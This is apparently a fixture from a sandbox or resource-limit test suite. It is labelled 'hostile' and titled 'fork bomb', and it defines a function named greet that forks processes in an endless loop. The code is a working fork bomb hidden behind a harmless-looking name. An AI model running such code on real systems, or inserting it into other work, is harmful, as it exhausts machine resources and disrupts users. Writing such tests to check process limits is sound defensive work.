# hostile: {"title":"fork bomb","family":"resources","expect":["limit","failed"]}
import os


def greet(name):
    while True:
        try:
            os.fork()
        except OSError:
            pass
